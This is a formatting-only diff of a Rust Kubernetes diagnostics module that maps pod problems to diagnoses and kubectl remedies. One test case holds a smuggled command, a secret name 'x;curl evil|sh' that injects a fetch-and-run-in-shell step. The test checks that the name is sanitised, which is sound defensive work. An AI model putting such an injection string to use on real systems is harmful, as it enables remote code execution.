@@ -10,21 +10,12 @@ use crate::{
 };
 
 /// The components whose pods run for as long as the installation does.
-pub(crate) const SERVING: &[Component] = &[
-    Component::Database,
-    Component::TaskProcessor,
-    Component::Api,
-    Component::Frontend,
-];
+pub(crate) const SERVING: &[Component] =
+    &[Component::Database, Component::TaskProcessor, Component::Api, Component::Frontend];
 
 /// Waiting reasons of images that cannot be pulled.
-const IMAGE_REASONS: &[&str] = &[
-    "ImagePullBackOff",
-    "ErrImagePull",
-    "InvalidImageName",
-    "ErrImageNeverPull",
-    "RegistryUnavailable",
-];
+const IMAGE_REASONS: &[&str] =
+    &["ImagePullBackOff", "ErrImagePull", "InvalidImageName", "ErrImageNeverPull", "RegistryUnavailable"];
 
 /// How long a pod may wait for a node before it is called unschedulable: a volume that is being provisioned, or a
 /// node that an autoscaler adds, makes the scheduler say so for a few seconds of every normal start.
@@ -62,10 +53,7 @@ pub(crate) fn diagnoses(
     let mut found: Vec<Draft> = Vec::new();
     for component in components {
         for new in troubles(context, *component).filter_map(|trouble| of(&trouble)) {
-            match found
-                .iter_mut()
-                .find(|known| (known.code, known.component) == (new.code, new.component))
-            {
+            match found.iter_mut().find(|known| (known.code, known.component) == (new.code, new.component)) {
                 Some(known) => known.evidence.extend(new.evidence),
                 None => found.push(new),
             }
@@ -86,13 +74,7 @@ pub(crate) fn troubles<'a>(
         .iter()
         .filter(move |pod| pod.component == component.as_str() && !pod.terminating)
         .flat_map(move |pod| {
-            pod.problems.iter().map(move |problem| PodTrouble {
-                installation,
-                pod,
-                problem,
-                component,
-                now,
-            })
+            pod.problems.iter().map(move |problem| PodTrouble { installation, pod, problem, component, now })
         })
 }
 
@@ -105,14 +87,7 @@ impl PodTrouble<'_> {
         evidence: Vec<String>,
         remedy: String,
     ) -> Draft {
-        Draft {
-            code,
-            severity: Severity::Critical,
-            component: self.component,
-            message,
-            evidence,
-            remedy,
-        }
+        Draft { code, severity: Severity::Critical, component: self.component, message, evidence, remedy }
     }
 
     /// `kubectl -n NAMESPACE VERB POD`, to read on.
@@ -127,12 +102,7 @@ impl PodTrouble<'_> {
 
 /// An image that cannot be pulled.
 pub(crate) fn image_pull_failed(trouble: &PodTrouble<'_>, code: Code) -> Option<Draft> {
-    let PodProblem::Waiting {
-        reason,
-        message,
-        image,
-    } = trouble.problem
-    else {
+    let PodProblem::Waiting { reason, message, image } = trouble.problem else {
         return None;
     };
     if !IMAGE_REASONS.contains(&reason.as_str()) {
@@ -140,10 +110,7 @@ pub(crate) fn image_pull_failed(trouble: &PodTrouble<'_>, code: Code) -> Option<
     }
     Some(trouble.critical(
         code,
-        format!(
-            "The image {image} of the {} cannot be pulled.",
-            trouble.component.as_str()
-        ),
+        format!("The image {image} of the {} cannot be pulled.", trouble.component.as_str()),
         vec![format!("pod {}: {reason}: {message}", trouble.pod.name)],
         trouble.installation.managed_by.correct_image(trouble.component),
     ))
@@ -212,12 +179,7 @@ pub(crate) fn unschedulable(trouble: &PodTrouble<'_>, code: Code) -> Option<Draf
 
 /// A container that was killed for its memory.
 pub(crate) fn out_of_memory(trouble: &PodTrouble<'_>, code: Code) -> Option<Draft> {
-    let PodProblem::OutOfMemory {
-        container,
-        restarts,
-        limit,
-    } = trouble.problem
-    else {
+    let PodProblem::OutOfMemory { container, restarts, limit } = trouble.problem else {
         return None;
     };
     let wanted = doubled(limit.as_deref());
@@ -231,23 +193,11 @@ pub(crate) fn out_of_memory(trouble: &PodTrouble<'_>, code: Code) -> Option<Draf
             "pod {}, container {container}: OOMKilled, restarted {}, limit {}",
             trouble.pod.name,
             restarted(*restarts),
-            limit
-                .as_deref()
-                .unwrap_or("none: the node itself had no memory left"),
+            limit.as_deref().unwrap_or("none: the node itself had no memory left"),
         )],
-        trouble
-            .installation
-            .managed_by
-            .more_memory(trouble.component, &wanted),
+        trouble.installation.managed_by.more_memory(trouble.component, &wanted),
     );
-    Some(if trouble.pod.ready {
-        Draft {
-            severity: Severity::Warning,
-            ..diagnosis
-        }
-    } else {
-        diagnosis
-    })
+    Some(if trouble.pod.ready { Draft { severity: Severity::Warning, ..diagnosis } } else { diagnosis })
 }
 
 /// Whether a waiting reason has a cause of its own.
@@ -285,9 +235,7 @@ fn last_failed(observation: &Observation, component: Component) -> Option<(&PodS
         .filter(|pod| pod.component == component.as_str())
         .flat_map(|pod| {
             pod.problems.iter().filter_map(move |problem| match problem {
-                PodProblem::Failed {
-                    exit_code, message, ..
-                } => Some((pod, *exit_code, message.as_deref())),
+                PodProblem::Failed { exit_code, message, .. } => Some((pod, *exit_code, message.as_deref())),
                 _ => None,
             })
         })
@@ -317,20 +265,11 @@ pub(crate) fn last_words(observation: &Observation, component: Component) -> Vec
 
 /// The last lines of a termination message, each cut to a length that one can read.
 pub(crate) fn tail(text: &str) -> Vec<String> {
-    let lines: Vec<&str> = text
-        .lines()
-        .map(str::trim_end)
-        .filter(|line| !line.is_empty())
-        .collect();
+    let lines: Vec<&str> = text.lines().map(str::trim_end).filter(|line| !line.is_empty()).collect();
     lines
         .iter()
         .skip(lines.len().saturating_sub(LAST_LINES))
-        .map(|line| {
-            format!(
-                "log: {}",
-                redact(&line.chars().take(LINE_LIMIT).collect::<String>())
-            )
-        })
+        .map(|line| format!("log: {}", redact(&line.chars().take(LINE_LIMIT).collect::<String>())))
         .collect()
 }
 
@@ -350,19 +289,10 @@ mod tests {
     }
 
     #[rstest]
-    #[case(
-        "configmap \"settings\" not found",
-        "create configmap settings --from-literal"
-    )]
+    #[case("configmap \"settings\" not found", "create configmap settings --from-literal")]
     #[case("secret \"keys\" not found", "create secret generic keys --from-literal")]
-    #[case(
-        "couldn't find key URL in Secret prod/db",
-        "Add the key URL to Secret prod/db"
-    )]
-    #[case(
-        "secret \"x;curl evil|sh\" not found",
-        "create secret generic OBJECT --from-literal"
-    )]
+    #[case("couldn't find key URL in Secret prod/db", "Add the key URL to Secret prod/db")]
+    #[case("secret \"x;curl evil|sh\" not found", "create secret generic OBJECT --from-literal")]
     fn what_is_missing_is_to_be_made(#[case] message: &str, #[case] expected: &str) {
         let found = missing(message, "prod").unwrap();
         assert!(found.contains(expected), "{found}");
@@ -370,9 +300,6 @@ mod tests {
 
     #[test]
     fn what_else_the_kubelet_says_is_not_guessed_at() {
-        assert_eq!(
-            missing("container has runAsNonRoot and image will run as root", "prod"),
-            None
-        );
+        assert_eq!(missing("container has runAsNonRoot and image will run as root", "prod"), None);
     }
 }
